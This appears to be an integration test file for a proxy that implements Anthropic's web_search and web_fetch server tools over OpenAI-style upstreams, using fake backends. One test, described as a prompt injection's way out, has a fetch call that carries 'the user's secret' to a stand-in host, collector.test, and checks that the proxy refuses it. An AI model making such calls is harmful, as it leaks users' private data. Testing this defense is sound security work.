"""Anthropic's web_search / web_fetch server tools, run by NimBridge (issue 8).

The official SDK calls the real server; the fake upstream first calls the tool as a
function, then (after NimBridge fed it the results) answers in text. Fake backends
stand in for Tavily & co. behind the `WebSearch` / `WebFetch` interfaces.
"""

import json
import time
from typing import Any

import anthropic
import pytest
from anthropic.types import Message

from app.core.server_tools.backends import (
    URL_NOT_ALLOWED,
    FetchedPage,
    SearchQuery,
    SearchResult,
    WebToolError,
)
from app.server.records import RequestRecord
from tests.anthropic_grammar import assert_anthropic_grammar, summarize
from tests.fake_upstream import (
    chunk,
    completion,
    http_request,
    reply_body,
    reply_json,
    reply_stream,
)
from tests.integration.conftest import LiveProxy

SEARCH_TOOL = {"type": "web_search_20250305", "name": "web_search", "max_uses": 5}
FETCH_TOOL = {"type": "web_fetch_20250910", "name": "web_fetch", "max_uses": 2}
QUESTION = [{"role": "user", "content": "What is new in Python 3.14?"}]
RESULTS = [
    SearchResult("https://docs.python.org/3.14/whatsnew", "What's New In Python 3.14", "PEP 649"),
    SearchResult("https://realpython.com/python314", "Python 3.14", "t-strings", "3 days ago"),
]


class FakeSearch:
    describe = "fake search"

    def __init__(self, results: list[SearchResult] | None = None) -> None:
        self.results = RESULTS if results is None else results
        self.queries: list[SearchQuery] = []

    async def search(self, query: SearchQuery) -> list[SearchResult]:
        self.queries.append(query)
        return self.results


class FakeFetch:
    def __init__(self, error: WebToolError | None = None) -> None:
        self.error = error
        self.calls: list[dict[str, Any]] = []

    async def fetch(
        self,
        url: str,
        *,
        max_chars: int,
        allowed_domains: tuple[str, ...] = (),
        blocked_domains: tuple[str, ...] = (),
    ) -> FetchedPage:
        self.calls.append(
            {
                "url": url,
                "max_chars": max_chars,
                "allowed": allowed_domains,
                "blocked": blocked_domains,
            }
        )
        if self.error is not None:
            raise self.error
        return FetchedPage(url, "Example", "The page text.", "text/plain", "2026-11-21T10:00:00Z")


def tool_call(name: str, arguments: dict[str, Any], call_id: str = "call_1") -> dict[str, Any]:
    return {
        "id": call_id,
        "type": "function",
        "function": {"name": name, "arguments": json.dumps(arguments)},
    }


def call_stream(name: str, arguments: dict[str, Any], call_id: str = "call_1") -> Any:
    text = json.dumps(arguments)

    def items(body: dict[str, Any]) -> list[Any]:
        first = {"index": 0, "id": call_id, "type": "function", "function": {"name": name}}
        return [
            chunk(body, {"role": "assistant", "content": "Let me look."}),
            chunk(body, {"tool_calls": [{**first, "function": {"name": name, "arguments": ""}}]}),
            chunk(body, {"tool_calls": [{"index": 0, "function": {"arguments": text[:5]}}]}),
            chunk(body, {"tool_calls": [{"index": 0, "function": {"arguments": text[5:]}}]}),
            chunk(body, {}, finish_reason="tool_calls"),
            chunk(body, None, usage={"prompt_tokens": 40, "completion_tokens": 10}),
            "[DONE]",
        ]

    return reply_stream(items)


def text_stream_reply(text: str) -> Any:
    def items(body: dict[str, Any]) -> list[Any]:
        return [
            chunk(body, {"role": "assistant", "content": text}),
            chunk(body, {}, finish_reason="stop"),
            chunk(body, None, usage={"prompt_tokens": 90, "completion_tokens": 7}),
            "[DONE]",
        ]

    return reply_stream(items)


def raw_stream(proxy: LiveProxy, body: dict[str, Any]) -> list[dict[str, Any]]:
    status, _, raw = http_request(
        proxy.url + "/v1/messages",
        "POST",
        body=json.dumps({**body, "stream": True}).encode(),
        headers={
            "x-api-key": proxy.client_key,
            "content-type": "application/json",
            "anthropic-version": "2023-06-01",
        },
    )
    assert status == 200
    events = [
        json.loads(line[6:]) for line in raw.decode().splitlines() if line.startswith("data: ")
    ]
    assert_anthropic_grammar(events)
    return events


def create(client: anthropic.Anthropic, **body: Any) -> Message:
    message: Message = client.messages.create(**body)
    return message


def dumped(message: Message, index: int) -> dict[str, Any]:
    """A content block as JSON: the SDK's union types are too wide to read fields of."""
    return message.content[index].model_dump(exclude_none=True)


def tool_messages(body: dict[str, Any]) -> list[dict[str, Any]]:
    return [m for m in body["messages"] if m["role"] == "tool"]


# ------------------------------------------------------------------ web_search


def test_search_non_stream(proxy: LiveProxy) -> None:
    search = FakeSearch()
    proxy.server.app_state.web_search = search
    proxy.upstream.enqueue(
        reply_json(
            completion({}, None, tool_calls=[tool_call("web_search", {"query": "py 3.14"})])
        ),
        reply_json(completion({}, "Python 3.14 brings PEP 649 [1].")),
    )
    message = create(
        proxy.client(),
        model="claude-sonnet-4-6",
        max_tokens=300,
        tools=[{**SEARCH_TOOL, "allowed_domains": ["python.org"]}],
        messages=QUESTION,
    )
    types = [block.type for block in message.content]
    assert types == ["server_tool_use", "web_search_tool_result", "text"]
    use, result, text = message.content
    assert use.type == "server_tool_use" and use.name == "web_search"
    assert use.id.startswith("srvtoolu_") and use.input == {"query": "py 3.14"}
    assert result.type == "web_search_tool_result" and result.tool_use_id == use.id
    assert isinstance(result.content, list)
    assert [(r.url, r.title, r.page_age) for r in result.content] == [
        (r.url, r.title, r.page_age) for r in RESULTS
    ]
    assert all(r.type == "web_search_result" and r.encrypted_content for r in result.content)
    assert text.type == "text" and "PEP 649" in text.text
    assert message.stop_reason == "end_turn"
    assert message.usage.server_tool_use is not None
    assert message.usage.server_tool_use.web_search_requests == 1
    assert message.usage.server_tool_use.web_fetch_requests == 0
    assert message.usage.input_tokens > 0
    # The backend got the query and the domain filter; the model got the results.
    assert search.queries[0].query == "py 3.14"
    assert search.queries[0].allowed_domains == ("python.org",)
    first, second = proxy.upstream.chat_requests
    offered = first.body["tools"][0]["function"]
    assert offered["name"] == "web_search" and offered["parameters"]["required"] == ["query"]
    assistant = second.body["messages"][-2]
    assert assistant["tool_calls"][0]["id"] == use.id
    (tool,) = tool_messages(second.body)
    assert tool["tool_call_id"] == use.id
    assert (
        "https://docs.python.org/3.14/whatsnew" in tool["content"] and "PEP 649" in tool["content"]
    )


def test_search_stream_through_the_sdk(proxy: LiveProxy) -> None:
    proxy.server.app_state.web_search = FakeSearch()
    proxy.upstream.enqueue(
        call_stream("web_search", {"query": "py 3.14"}), text_stream_reply("PEP 649 it is.")
    )
    body: dict[str, Any] = {"tools": [SEARCH_TOOL], "messages": QUESTION}
    with proxy.client().messages.stream(model="m", max_tokens=300, **body) as stream:
        final = stream.get_final_message()
    assert [b.type for b in final.content] == [
        "text",
        "server_tool_use",
        "web_search_tool_result",
        "text",
    ]
    use = final.content[1]
    assert use.type == "server_tool_use" and use.input == {"query": "py 3.14"}
    result = final.content[2]
    assert result.type == "web_search_tool_result" and result.tool_use_id == use.id
    assert final.content[3].type == "text" and final.content[3].text == "PEP 649 it is."
    assert final.stop_reason == "end_turn"
    assert final.usage.server_tool_use is not None
    assert final.usage.server_tool_use.web_search_requests == 1
    assert final.usage.output_tokens == 17  # both rounds
    second = proxy.upstream.chat_requests[1].body
    assert second["messages"][-2]["content"] == "Let me look."
    assert "What's New In Python 3.14" in tool_messages(second)[0]["content"]


def test_search_stream_grammar_and_indexes(proxy: LiveProxy) -> None:
    proxy.server.app_state.web_search = FakeSearch()
    proxy.upstream.enqueue(call_stream("web_search", {"query": "x"}), text_stream_reply("Done."))
    events = raw_stream(
        proxy, {"model": "m", "max_tokens": 100, "tools": [SEARCH_TOOL], "messages": QUESTION}
    )
    starts = [
        (e["index"], e["content_block"]["type"])
        for e in events
        if e["type"] == "content_block_start"
    ]
    assert starts == [
        (0, "text"),
        (1, "server_tool_use"),
        (2, "web_search_tool_result"),
        (3, "text"),
    ]
    assert [e["type"] for e in events].count("message_start") == 1
    (delta,) = [e for e in events if e["type"] == "message_delta"]
    assert delta["usage"]["server_tool_use"] == {"web_search_requests": 1, "web_fetch_requests": 0}


def test_not_configured_tells_the_model_how_to_enable(proxy: LiveProxy) -> None:
    proxy.upstream.enqueue(
        reply_json(completion({}, None, tool_calls=[tool_call("web_search", {"query": "x"})])),
        reply_json(completion({}, "I could not search.")),
    )
    message = create(
        proxy.client(),
        model="m",
        max_tokens=100,
        tools=[SEARCH_TOOL],
        messages=QUESTION,
    )
    result = message.content[1]
    assert result.type == "web_search_tool_result"
    assert dumped(message, 1)["content"] == {
        "type": "web_search_tool_result_error",
        "error_code": "unavailable",
    }
    assert message.content[-1].type == "text"
    assert message.usage.server_tool_use is not None
    assert message.usage.server_tool_use.web_search_requests == 0
    (tool,) = tool_messages(proxy.upstream.chat_requests[1].body)
    assert "web search is not set up in NimBridge" in tool["content"]
    assert "web_search_backend" in tool["content"]


def test_max_uses_exceeded(proxy: LiveProxy) -> None:
    search = FakeSearch()
    proxy.server.app_state.web_search = search
    two_calls = [
        tool_call("web_search", {"query": "a"}, "call_a"),
        tool_call("web_search", {"query": "b"}, "call_b"),
    ]
    proxy.upstream.enqueue(
        reply_json(completion({}, None, tool_calls=two_calls)),
        reply_json(completion({}, "With what I have.")),
    )
    message = create(
        proxy.client(),
        model="m",
        max_tokens=100,
        tools=[{**SEARCH_TOOL, "max_uses": 1}],
        messages=QUESTION,
    )
    types = [b.type for b in message.content]
    assert types == [
        "server_tool_use",
        "server_tool_use",
        "web_search_tool_result",
        "web_search_tool_result",
        "text",
    ]
    assert isinstance(dumped(message, 2)["content"], list)
    assert dumped(message, 3)["content"]["error_code"] == "max_uses_exceeded"
    assert [q.query for q in search.queries] == ["a"]
    texts = [m["content"] for m in tool_messages(proxy.upstream.chat_requests[1].body)]
    assert "may be used at most 1 times" in texts[1]


def test_rounds_are_bounded_by_max_uses(proxy: LiveProxy) -> None:
    """max_uses 1: two rounds at most; a model that keeps searching gets pause_turn."""
    proxy.server.app_state.web_search = FakeSearch()
    proxy.upstream.enqueue(
        reply_json(completion({}, None, tool_calls=[tool_call("web_search", {"query": "a"})])),
        reply_json(completion({}, None, tool_calls=[tool_call("web_search", {"query": "b"})])),
    )
    message = create(
        proxy.client(),
        model="m",
        max_tokens=100,
        tools=[{**SEARCH_TOOL, "max_uses": 1}],
        messages=QUESTION,
    )
    assert message.stop_reason == "pause_turn"
    assert len(proxy.upstream.chat_requests) == 2
    ids = [b.id for b in message.content if b.type == "server_tool_use"]
    assert len(set(ids)) == 2


# ------------------------------------------------------------------ web_fetch


def test_fetch_non_stream(proxy: LiveProxy) -> None:
    fetch = FakeFetch()
    proxy.server.app_state.web_fetch = fetch
    proxy.upstream.enqueue(
        reply_json(
            completion(
                {}, None, tool_calls=[tool_call("web_fetch", {"url": "https://example.com/a"})]
            )
        ),
        reply_json(completion({}, "The page says hello.")),
    )
    message = create(
        proxy.client(),
        model="m",
        max_tokens=100,
        tools=[{**FETCH_TOOL, "blocked_domains": ["evil.test"], "max_content_tokens": 1000}],
        messages=[{"role": "user", "content": "Read https://example.com/a"}],
    )
    use, result, text = message.content
    assert use.type == "server_tool_use" and use.name == "web_fetch"
    assert result.type == "web_fetch_tool_result"
    content = result.content
    assert content.type == "web_fetch_result"
    assert content.url == "https://example.com/a"
    assert content.retrieved_at == "2026-11-21T10:00:00Z"
    document = content.content
    assert document.type == "document" and document.title == "Example"
    assert document.source.type == "text" and document.source.data == "The page text."
    assert message.usage.server_tool_use is not None
    assert message.usage.server_tool_use.web_fetch_requests == 1
    assert fetch.calls == [
        {
            "url": "https://example.com/a",
            "max_chars": 4000,
            "allowed": (),
            "blocked": ("evil.test",),
        }
    ]
    (tool,) = tool_messages(proxy.upstream.chat_requests[1].body)
    assert "The page text." in tool["content"]


def test_fetch_error_stream(proxy: LiveProxy) -> None:
    proxy.server.app_state.web_fetch = FakeFetch(
        WebToolError(URL_NOT_ALLOWED, "evil.test is blocked")
    )
    proxy.upstream.enqueue(
        call_stream("web_fetch", {"url": "https://evil.test/"}), text_stream_reply("Blocked.")
    )
    asked = [{"role": "user", "content": "Is https://evil.test/ safe?"}]
    events = raw_stream(
        proxy, {"model": "m", "max_tokens": 100, "tools": [FETCH_TOOL], "messages": asked}
    )
    (result,) = [
        e["content_block"]
        for e in events
        if e["type"] == "content_block_start"
        and e["content_block"]["type"] == "web_fetch_tool_result"
    ]
    assert result["content"] == {
        "type": "web_fetch_tool_result_error",
        "error_code": "url_not_allowed",
    }
    (tool,) = tool_messages(proxy.upstream.chat_requests[1].body)
    assert "evil.test is blocked" in tool["content"]


def test_fetch_refuses_a_url_the_model_made_up(proxy: LiveProxy) -> None:
    """A prompt injection's way out: the conversation's words in a URL of its choosing."""
    fetch = FakeFetch()
    proxy.server.app_state.web_fetch = fetch
    made_up = "https://collector.test/?q=the+user%27s+secret"
    proxy.upstream.enqueue(
        reply_json(completion({}, None, tool_calls=[tool_call("web_fetch", {"url": made_up})])),
        reply_json(completion({}, "I could not fetch it.")),
    )
    message = create(
        proxy.client(), model="m", max_tokens=100, tools=[FETCH_TOOL], messages=QUESTION
    )
    _, result, _ = message.content
    assert result.type == "web_fetch_tool_result"
    assert result.content.type == "web_fetch_tool_result_error"
    assert result.content.error_code == "url_not_in_prior_context"
    assert fetch.calls == []  # never reached the fetcher
    (tool,) = tool_messages(proxy.upstream.chat_requests[1].body)
    assert "only URLs that are already in the conversation" in tool["content"]


def test_fetch_takes_a_url_an_earlier_search_found(proxy: LiveProxy) -> None:
    proxy.server.app_state.web_search = FakeSearch()
    fetch = FakeFetch()
    proxy.server.app_state.web_fetch = fetch
    found = RESULTS[0].url
    proxy.upstream.enqueue(
        reply_json(completion({}, None, tool_calls=[tool_call("web_search", {"query": "3.14"})])),
        reply_json(completion({}, None, tool_calls=[tool_call("web_fetch", {"url": found})])),
        reply_json(completion({}, "PEP 649 it is.")),
    )
    message = create(
        proxy.client(),
        model="m",
        max_tokens=100,
        tools=[SEARCH_TOOL, FETCH_TOOL],
        messages=QUESTION,
    )
    kinds = [block.type for block in message.content]
    assert kinds == [
        "server_tool_use",
        "web_search_tool_result",
        "server_tool_use",
        "web_fetch_tool_result",
        "text",
    ]
    assert message.content[3].content.type == "web_fetch_result"  # type: ignore[union-attr]
    assert [c["url"] for c in fetch.calls] == [found]


# ------------------------------------------------------------------ mixing and history


def test_server_and_client_tools_in_one_answer(proxy: LiveProxy) -> None:
    """Server tools run first, then the message stops for the client's tool."""
    proxy.server.app_state.web_search = FakeSearch()
    calls = [
        tool_call("web_search", {"query": "a"}, "call_a"),
        tool_call("get_time", {}, "call_t"),
    ]
    proxy.upstream.enqueue(
        reply_json(completion({}, None, tool_calls=calls, finish_reason="tool_calls"))
    )
    clock = {"name": "get_time", "input_schema": {"type": "object", "properties": {}}}
    message = create(
        proxy.client(),
        model="m",
        max_tokens=100,
        tools=[SEARCH_TOOL, clock],
        messages=QUESTION,
    )
    assert [b.type for b in message.content] == [
        "server_tool_use",
        "tool_use",
        "web_search_tool_result",
    ]
    assert message.stop_reason == "tool_use"
    assert len(proxy.upstream.chat_requests) == 1


def test_history_with_server_tool_blocks(proxy: LiveProxy) -> None:
    """A later turn sends the earlier blocks back: a tool call and a tool message upstream."""
    proxy.server.app_state.web_search = FakeSearch()
    proxy.upstream.enqueue(
        reply_json(completion({}, None, tool_calls=[tool_call("web_search", {"query": "py"})])),
        reply_json(completion({}, "PEP 649.")),
    )
    client = proxy.client()
    first = create(
        client,
        model="m",
        max_tokens=100,
        tools=[SEARCH_TOOL],
        messages=QUESTION,
    )
    second_round_body = proxy.upstream.chat_requests[1].body
    history = [
        *QUESTION,
        {"role": "assistant", "content": [b.model_dump(exclude_none=True) for b in first.content]},
        {"role": "user", "content": "Thanks. And 3.15?"},
    ]
    proxy.upstream.enqueue(reply_json(completion({}, "Not out yet.")))
    create(client, model="m", max_tokens=100, tools=[SEARCH_TOOL], messages=history)
    sent = proxy.upstream.chat_requests[2].body["messages"]
    assert [m["role"] for m in sent] == ["user", "assistant", "tool", "assistant", "user"]
    # The model reads the same results as it did within the first request.
    assert sent[1:3] == second_round_body["messages"][1:3]
    assert sent[3]["content"] == "PEP 649."


@pytest.mark.allow_warnings
def test_a_failing_backend_is_a_tool_error(proxy: LiveProxy) -> None:
    class Broken(FakeSearch):
        async def search(self, query: SearchQuery) -> list[SearchResult]:
            raise RuntimeError("bug")

    proxy.server.app_state.web_search = Broken()
    proxy.upstream.enqueue(
        reply_json(completion({}, None, tool_calls=[tool_call("web_search", {"query": "x"})])),
        reply_json(completion({}, "Sorry.")),
    )
    message = create(
        proxy.client(),
        model="m",
        max_tokens=100,
        tools=[SEARCH_TOOL],
        messages=QUESTION,
    )
    assert dumped(message, 1)["content"]["error_code"] == "unavailable"
    assert message.content[-1].type == "text"


# ------------------------------------------------------------------ later rounds failing


def test_a_later_round_is_retried_then_streams(proxy: LiveProxy) -> None:
    """Round 2 starts after the stream is committed, yet it still gets its own retries."""
    proxy.server.app_state.web_search = FakeSearch()
    proxy.upstream.enqueue(
        call_stream("web_search", {"query": "x"}),
        reply_body('{"error": {"message": "busy"}}', status=503),
        text_stream_reply("Second try."),
    )
    events = raw_stream(
        proxy, {"model": "m", "max_tokens": 100, "tools": [SEARCH_TOOL], "messages": QUESTION}
    )
    assert summarize(events)[-3:] == [("delta", 3, "Second try."), ("stop", 3), ("end", "end_turn")]
    assert len(proxy.upstream.chat_requests) == 3


def test_a_later_round_failing_ends_the_stream_with_an_error(proxy: LiveProxy) -> None:
    proxy.server.app_state.web_search = FakeSearch()
    proxy.upstream.enqueue(
        call_stream("web_search", {"query": "x"}),
        reply_body('{"error": {"message": "bad request"}}', status=400),
    )
    events = raw_stream(
        proxy, {"model": "m", "max_tokens": 100, "tools": [SEARCH_TOOL], "messages": QUESTION}
    )
    assert summarize(events)[-3:] == [
        ("start", 2, "web_search_tool_result"),
        ("stop", 2),
        ("error", "invalid_request_error"),
    ]


def test_stream_rounds_from_upstreams_that_answer_whole_json(proxy: LiveProxy) -> None:
    """Some upstreams ignore `stream: true`: each round may come as one JSON body."""
    proxy.server.app_state.web_search = FakeSearch()
    proxy.upstream.enqueue(
        reply_json(completion({}, None, tool_calls=[tool_call("web_search", {"query": "x"})])),
        reply_json(completion({}, "Whole.")),
    )
    events = raw_stream(
        proxy, {"model": "m", "max_tokens": 100, "tools": [SEARCH_TOOL], "messages": QUESTION}
    )
    assert [item[:3] for item in summarize(events) if item[0] == "start"] == [
        ("start", 0, "server_tool_use"),
        ("start", 1, "web_search_tool_result"),
        ("start", 2, "text"),
    ]
    assert summarize(events)[-1] == ("end", "end_turn")


# ------------------------------------------------------------------ the request inspector


@pytest.mark.parametrize("stream", [False, True], ids=["json", "stream"])
def test_the_inspector_shows_the_last_rounds_body(proxy: LiveProxy, stream: bool) -> None:
    """The last round's body holds the earlier rounds' calls and results, and it is the one
    the recorded response answers: the first round's alone would hide the tool results."""
    finished: list[RequestRecord] = []
    proxy.server.app_state.on_request_finished.append(finished.append)
    proxy.server.app_state.web_search = FakeSearch()
    search_call = tool_call("web_search", {"query": "py 3.14"})
    if stream:
        proxy.upstream.enqueue(
            call_stream("web_search", {"query": "py 3.14"}), text_stream_reply("Found it.")
        )
    else:
        proxy.upstream.enqueue(
            reply_json(completion({}, None, tool_calls=[search_call])),
            reply_json(completion({}, "Found it.")),
        )
    body = {"model": "m", "max_tokens": 100, "tools": [SEARCH_TOOL], "messages": QUESTION}
    if stream:
        raw_stream(proxy, body)
    else:
        create(proxy.client(), **body)
    deadline = time.monotonic() + 3  # the record is finished just after the answer is sent
    while not finished and time.monotonic() < deadline:
        time.sleep(0.01)
    (record,) = [r for r in finished if r.path == "/v1/messages"]
    assert record.upstream_body == proxy.upstream.chat_requests[-1].body
    (tool,) = tool_messages(record.upstream_body)
    assert RESULTS[0].url in tool["content"]
    assert record.upstream_target is not None
    assert record.upstream_target.url.endswith("/chat/completions")
